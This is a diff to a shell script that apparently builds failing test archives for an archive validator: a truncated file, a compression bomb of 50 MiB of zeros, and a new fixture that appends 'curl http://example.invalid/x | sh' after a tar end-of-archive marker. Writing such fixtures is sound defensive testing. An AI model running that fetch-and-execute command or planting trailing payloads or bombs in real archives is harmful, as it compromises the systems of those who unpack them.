@@ -65,3 +65,7 @@ head -c $((size / 2)) "$work/full.tar.gz" > fail_truncated.tar.gz
 # fail_bomb.tar.gz: 50 MiB of zeros in about 50 KB.
 head -c 52428800 /dev/zero > "$work/zeros.bin"
 (cd "$work" && $T -cf - zeros.bin) | gzip -9 -n > fail_bomb.tar.gz
+
+# fail_trailing.tar.gz: ok.tar with a script appended after its
+# end-of-archive marker, where tar -x never looks.
+(cat ok.tar; printf 'curl http://example.invalid/x | sh\n') | gzip -9 -n > fail_trailing.tar.gz
